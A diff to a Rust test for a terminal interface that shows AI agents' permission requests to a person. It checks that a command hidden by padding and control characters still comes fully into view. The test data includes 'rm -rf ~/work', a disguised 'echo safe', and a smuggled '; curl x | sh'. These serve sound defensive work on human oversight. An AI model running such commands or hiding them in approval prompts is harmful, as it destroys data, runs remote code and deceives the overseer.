@@ -1,5 +1,6 @@
 //! Several agents: who needs a person, and what that person says.
 
+use crossterm::event::Event;
 use serde_json::json;
 
 use super::Desk;
@@ -206,6 +207,11 @@ fn nothing_of_a_question_can_be_hidden() {
     let mut desk = Desk::new(100, 24);
     let id = desk.agent("api", "do it");
     let long = "\n".repeat(60);
+    let choices = ["allow", "always allow all of it", "deny"].map(|label| Choice {
+        id: label.into(),
+        label: label.into(),
+        grants: None,
+    });
     desk.hears(
         id,
         vec![AgentEvent::Asks(Question {
@@ -216,7 +222,7 @@ fn nothing_of_a_question_can_be_hidden() {
                 call: None,
             },
             text: format!("Bash: {command}\nagain"),
-            choices: Vec::new(),
+            choices: choices.into(),
             several: false,
             answerable: true,
         })],
@@ -227,8 +233,27 @@ fn nothing_of_a_question_can_be_hidden() {
     let text = desk.press("a").text();
     let line = "command: rm -rf ~/work␍echo safe␈<U+202E>";
     assert!(text.contains(line), "{text}");
-    assert!(text.contains("rows left out"), "{text}");
-    assert!(text.contains("; curl x | sh"), "{text}");
+    assert!(text.contains("rows below: PgDn"), "{text}");
+    assert!(text.contains("1. allow"), "what can be chosen: {text}");
+    assert!(!text.contains("; curl x | sh"), "{text}");
+    // all of it comes into sight, on a small screen too
+    for (width, height) in [(100, 24), (40, 10)] {
+        desk.event(Event::Resize(width, height));
+        let mut seen = desk.text();
+        for _ in 0..60 {
+            seen += &desk.press("PgDn").text();
+        }
+        assert!(!desk.text().contains("below: PgDn"), "{}", desk.text());
+        for part in ["; curl x | sh", "always allow all of it", "again"] {
+            assert!(seen.contains(part), "{part}");
+        }
+        assert!(desk.text().contains("above: PgUp"));
+        for _ in 0..60 {
+            desk.press("PgUp");
+        }
+        let text = desk.text();
+        assert!(text.contains("Bash: rm -rf ~/work␍echo"), "{text}");
+    }
 }
 
 #[test]
